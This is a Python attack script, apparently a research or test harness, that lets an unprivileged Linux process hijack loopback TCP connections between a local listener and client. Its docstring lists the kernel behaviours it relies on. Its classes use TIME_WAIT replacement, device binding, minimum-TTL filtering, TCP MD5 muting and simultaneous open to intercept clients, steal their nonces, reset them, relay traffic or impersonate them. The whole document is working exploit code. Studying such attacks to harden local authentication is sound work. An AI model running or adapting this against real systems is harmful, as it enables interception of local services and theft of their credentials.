"""An unprivileged process that tries to become an end of a pair, or to get between its ends. For Linux.

    attacker.py twin|late|early|heir|relay|reset 4|6 FIRST-PORT LAST-PORT

It prints how many clients it has attacked so far (as a twin, always 0) after each command. A command is one line:

    prepare           before the victim binds a socket;
    before PORT HOST PORT
                      before the victim's client connects: the listener's port, then the client's host and port;
    after             when the client has started to connect;
    accepting         before the victim accepts a connection;
    met               at any time, only to get the number.

It relies on these facts, all observed on Linux 6.18:

- A packet goes to a connection rather than to a listener. If several connections match, it goes to the newest. If a
  socket at the listener's port is connecting to the client's port, it meets the client: the two connect to each other.
- A socket that is bound to a port at all addresses, and is connecting elsewhere, conflicts with no socket at loopback.
  After connect(AF_UNSPEC) it can connect from the loopback address, even if another socket is bound there.
- With IP_MINTTL 255 a socket ignores packets with a lower TTL. That includes loopback's, so it sees no refusal.
- A socket bound to the device "lo" by SO_BINDTODEVICE can have the same addresses and ports as a socket without a
  device. Once it is bound to another device, it receives nothing from loopback, and nobody there notices its close.
- A connection in TIME_WAIT hides older ones with the same addresses and ports. A new connection can replace it. Packets
  that open a connection reach the listener in spite of it.
- A socket with a TCP_MD5SIG key signs the packets that it sends. A socket without a key drops signed packets.
- A client that was reset still reports its port, although the system gives that port to any socket that asks for it.

If the client is bound to all addresses, no other socket has its port, or gets it, until the client is reset or closed.
"""

import contextlib
import ctypes
import errno
import os
import socket
import struct
import sys
import threading
import time

IP_MINTTL, IPV6_MINHOPCOUNT = 21, 73
NEIGHBOURS, ANYBODY = 255, 0
ESTABLISHED, FIN_WAIT2, CLOSED = 1, 5, 7
TCP_MD5SIG = 14
RESET, NO_RESET = struct.pack("ii", 1, 0), struct.pack("ii", 0, 0)
UNSPECIFIED = struct.pack("=H26x", socket.AF_UNSPEC)
NOBODY = 65534
SECONDS = 5
FAMILY = socket.AF_INET6 if sys.argv[2] == "6" else socket.AF_INET
LOOPBACK, ELSEWHERE = ("::1", "fd00::9") if FAMILY == socket.AF_INET6 else ("127.0.0.1", "10.9.9.9")
FIRST, LAST = map(int, sys.argv[3:])
libc = ctypes.CDLL(None, use_errno=True)


def open_socket(blocking=False):
    sock = socket.socket(FAMILY)
    sock.setblocking(blocking)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
    return sock


def listen():
    sock = open_socket(blocking=True)
    sock.bind((LOOPBACK, 0))
    sock.listen()
    return sock


def hear(sock, whom):
    if FAMILY == socket.AF_INET:
        sock.setsockopt(socket.IPPROTO_IP, IP_MINTTL, whom)
    else:
        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_MINHOPCOUNT, whom)


def bind_to_device(sock, name):
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name)


def undo_connect(sock):
    if libc.connect(sock.fileno(), UNSPECIFIED, len(UNSPECIFIED)):
        raise OSError(ctypes.get_errno(), "connect to AF_UNSPEC")


def is_in_state(sock, state):
    return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1) == bytes([state])


def await_success(attempt):
    deadline = time.monotonic() + SECONDS
    while not attempt():
        if time.monotonic() > deadline:
            raise TimeoutError
        time.sleep(0.001)


def await_state(state, *socks):
    await_success(lambda: all(is_in_state(sock, state) for sock in socks))


def half_close(sock, peer):
    """Shut sock down and make it ignore its peer. Closing it then puts it into TIME_WAIT, whatever its peer does."""
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, NO_RESET)
    sock.shutdown(socket.SHUT_WR)
    peer.send(b"acknowledges the end at once")
    await_state(FIN_WAIT2, sock)
    sock.recv(100)  # with unread data, closing it would be a reset
    hear(sock, NEIGHBOURS)


def hide(sock):
    """Bind sock to another device, so that loopback's packets pass it by, and close it without telling its peer."""
    bind_to_device(sock, b"eth9")
    sock.close()


def mute(sock):
    """Make the peer of sock drop all that sock sends from now on."""
    address = struct.pack("=HHI", FAMILY, 0, 0) if FAMILY == socket.AF_INET6 else struct.pack("=HH", FAMILY, 0)
    address += socket.inet_pton(FAMILY, LOOPBACK)
    sock.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, struct.pack("=128s2xH4x80s", address, 1, b"k"))


def connect_in_front(sock, hider, port):
    """Close hider, which in TIME_WAIT hides the client's connection. Connect sock, at the client's port, to port."""
    hider.close()
    undo_connect(sock)
    hear(sock, ANYBODY)
    # Linux lets a new connection replace one in TIME_WAIT that has been silent for a second.
    await_success(lambda: sock.connect_ex((LOOPBACK, port)) != errno.EADDRNOTAVAIL)


def hold(port, number=1):
    """Return a socket at this port, connecting elsewhere. number is the remote port."""
    sock = open_socket()
    hear(sock, NEIGHBOURS)
    sock.bind(("", port))
    sock.connect_ex((ELSEWHERE, number))
    return sock


class Twin:
    """An attacker that leaves only two ports, which a listener and a client then get. It connects to both.

    It attacks a client that is not bound before it connects. Then the accepted end's peer has the client's address and
    port, and the client's peer has the listener's.
    """

    met = 0

    def __init__(self):
        listener, other = listen(), listen()
        self.port = listener.getsockname()[1]
        self.hider = open_socket(blocking=True)
        bind_to_device(self.hider, b"lo")
        self.hider.connect((LOOPBACK, self.port))
        self.client_port = self.hider.getsockname()[1]
        far, _ = listener.accept()
        half_close(self.hider, far)
        far.close()
        listener.close()
        self.twin = open_socket()
        self.twin.bind(("", self.client_port))
        bind_to_device(self.twin, b"lo")
        self.twin.connect_ex(other.getsockname())
        # When this is closed, Linux assumes that only clients use the port, and gives the port to the next client.
        last = open_socket()
        last.bind((ELSEWHERE, self.client_port))
        last.close()
        self.interceptor = hold(self.port)
        self.others = [other]
        for port in set(range(FIRST, LAST + 1)) - {self.port, self.client_port, other.getsockname()[1]}:
            self.others.append(open_socket())
            self.others[-1].bind(("", port))

    def prepare(self):
        pass

    def before(self, *_):
        undo_connect(self.interceptor)
        self.interceptor.connect_ex((LOOPBACK, self.client_port))
        hear(self.interceptor, ANYBODY)

    def accepting(self):
        pass

    def after(self):
        hide(self.interceptor)
        connect_in_front(self.twin, self.hider, self.port)


class InTheMiddle:
    """An attacker with sockets at each port that bind() assigns. It starts between the client's bind and connect."""

    met = 0
    number = 0

    def __init__(self):
        self.held = {port: [] for port in range(FIRST + 1, LAST + 1, 2)}  # Linux assigns the others in connect()
        self.interceptor = None
        self.used = []

    def prepare(self):
        for sock in self.used:
            sock.close()
        self.interceptor = None
        self.used = []
        for port, socks in self.held.items():
            try:
                while len(socks) < 3:
                    self.number = self.number % 60000 + 1
                    socks.append(hold(port, self.number))
            except OSError:  # the victim has this port
                pass

    def take(self, port):
        sock = self.held[port].pop() if self.held.get(port) else hold(port)
        self.used.append(sock)
        undo_connect(sock)
        return sock

    def before(self, port, client, device=None):
        self.address = LOOPBACK, port
        self.interceptor = self.take(port)
        if device:
            bind_to_device(self.interceptor, device)
        # Nobody listens at the client's port. The socket ignores loopback until hear(), so it sees no refusal.
        self.interceptor.connect_ex(client)
        hear(self.interceptor, ANYBODY)

    def accepting(self):
        pass

    def after(self):
        if self.interceptor and is_in_state(self.interceptor, ESTABLISHED):
            self.interceptor.setblocking(True)
            threading.Thread(target=self.serve, daemon=True).start()


class Reset(InTheMiddle):
    def serve(self):
        self.met += 1
        self.interceptor.close()


class Heir(InTheMiddle):
    """An attacker that meets the client, reads its nonce, resets it, and sends the nonce from the client's port."""

    def before(self, port, client):
        self.client_port = client[1]
        InTheMiddle.before(self, port, client)

    def after(self):
        pass

    def accepting(self):
        if not self.interceptor or not is_in_state(self.interceptor, ESTABLISHED):
            return
        try:
            nonce = self.interceptor.recv(16)
        except BlockingIOError:  # the nonce has not arrived yet
            return
        self.interceptor.close()
        self.interceptor = None
        heir = open_socket(blocking=True)
        self.used.append(heir)
        heir.bind((LOOPBACK, self.client_port))
        heir.connect(self.address)
        heir.sendall(nonce)
        self.met += 1


class Relay(InTheMiddle):
    def serve(self):
        self.met += 1
        onward = open_socket(blocking=True)
        self.used.append(onward)
        onward.connect(self.address)
        for ends in ((self.interceptor, onward), (onward, self.interceptor)):
            threading.Thread(target=carry, args=ends, daemon=True).start()


def carry(source, sink):
    try:
        while sink.send(source.recv(65536)):
            pass
    except OSError:
        pass
    for sock in (source, sink):
        with contextlib.suppress(OSError):
            sock.shutdown(socket.SHUT_RDWR)


class Late(InTheMiddle):
    """An attacker that meets the client, reads its nonce, and sends it to the listener from the client's own port."""

    def before(self, port, client):
        self.hider, self.twin = self.take(client[1]), self.take(client[1])
        bind_to_device(self.hider, b"lo")
        bind_to_device(self.twin, b"lo")
        peer = self.take(port)
        self.join(peer, self.hider, port, client[1])
        half_close(self.hider, peer)
        hide(peer)
        InTheMiddle.before(self, port, client)

    def join(self, at_listeners, at_clients, port, client_port):
        """Connect these two to each other, from the port of the listener and the port of the client."""
        at_listeners.connect_ex((LOOPBACK, client_port))
        hear(at_listeners, ANYBODY)
        hear(at_clients, ANYBODY)
        at_clients.connect_ex((LOOPBACK, port))
        await_state(ESTABLISHED, at_listeners, at_clients)

    def serve(self):
        nonce = self.interceptor.recv(16)
        hide(self.interceptor)
        connect_in_front(self.twin, self.hider, self.address[1])
        self.twin.setblocking(True)
        self.twin.sendall(nonce)
        self.met += 1


class Early(Late):
    """An attacker like Late, but it connects to the listener before the client sends the nonce."""

    def before(self, port, client):
        hider, lets_through, self.twin = self.take(port), self.take(port), self.take(client[1])
        # In TIME_WAIT, lets_through lets the twin connect to the listener. Then hider, in TIME_WAIT, hides the twin's
        # connection from the socket that meets the client.
        bind_to_device(hider, b"lo")
        bind_to_device(self.twin, b"lo")
        peer = self.take(client[1])
        self.join(hider, peer, port, client[1])
        half_close(hider, peer)
        hide(peer)
        peer = self.take(client[1])
        self.join(lets_through, peer, port, client[1])
        half_close(lets_through, peer)
        lets_through.close()
        peer.shutdown(socket.SHUT_WR)
        await_state(CLOSED, peer)
        time.sleep(0.002)  # a packet with the same timestamp, in milliseconds, is not let through
        hear(self.twin, ANYBODY)
        self.twin.connect_ex((LOOPBACK, port))
        await_state(ESTABLISHED, self.twin)
        hider.close()
        InTheMiddle.before(self, port, client, device=b"lo")

    def serve(self):
        nonce = self.interceptor.recv(16)
        mute(self.interceptor)
        self.interceptor.close()
        self.twin.setblocking(True)
        self.twin.sendall(nonce)
        self.met += 1


def main():
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    attacker = {way.__name__.lower(): way for way in (Twin, Late, Early, Heir, Relay, Reset)}[sys.argv[1]]()
    for line in sys.stdin:
        command, *words = line.split()
        if command == "before":
            port, client_host, client_port = words
            try:
                attacker.before(int(port), (client_host, int(client_port)))
            except OSError as error:  # the system refuses to give it the client's port
                assert error.errno == errno.EADDRINUSE
        elif command != "met":
            getattr(attacker, command)()
        print(attacker.met, flush=True)


if __name__ == "__main__":
    main()
